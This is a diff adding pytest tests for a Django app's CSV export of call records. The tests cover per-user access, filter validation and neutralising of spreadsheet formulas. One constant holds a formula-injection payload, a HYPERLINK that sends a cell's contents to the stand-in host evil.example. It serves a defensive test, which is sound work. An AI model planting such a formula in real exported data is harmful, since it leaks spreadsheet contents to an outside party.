@@ -1,0 +1,53 @@
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime, timezone
+
+import pytest
+
+from tests.factories import make_cdr, verified_client
+from traffic.exports import neutralise
+
+pytestmark = pytest.mark.django_db
+
+T0 = datetime(2026, 3, 10, 9, 0, tzinfo=timezone.utc)
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _rows(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+class CallCsvExportTests:
+    def test_it_exports_only_own_calls_from_page_and_api(self, client, alice, mallory):
+        make_cdr(account=alice, direction="in", src="+31612345678", dst="+31205550101", started_at=T0)
+        make_cdr(account=mallory, src="+31205550999", dst="+31677777777", started_at=T0)
+        verified_client(client, alice)
+        for url in ("/calls/export.csv", "/api/v1/me/calls.csv"):
+            response = client.get(url)
+            assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+            rows = _rows(response)
+            assert rows[0][0] == "started_at" and len(rows) == 2
+            assert "+31677777777" not in str(rows) and "'+31612345678" in rows[1]
+
+    def test_it_neutralises_formula_injection_in_caller_names(self, client, alice):
+        make_cdr(account=alice, direction="in", src="+31612345678", dst="+31205550101", started_at=T0,
+                 caller_name=HOSTILE)
+        rows = _rows(verified_client(client, alice).get("/calls/export.csv"))
+        name = rows[1][rows[0].index("caller_name")]
+        assert name == "'" + HOSTILE
+
+    def test_it_refuses_a_bad_filter_before_streaming(self, client, alice):
+        verified_client(client, alice)
+        assert client.get("/calls/export.csv?number=hello").status_code == 400
+        response = client.get("/api/v1/me/calls.csv?since=nope")
+        assert response.status_code == 400 and "since" in response.json()
+
+    @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+    def test_it_prefixes_every_formula_start(self, cell):
+        assert neutralise(cell) == "'" + cell
+
+    def test_it_leaves_plain_text_alone(self):
+        assert neutralise("Jan de Vries") == "Jan de Vries"
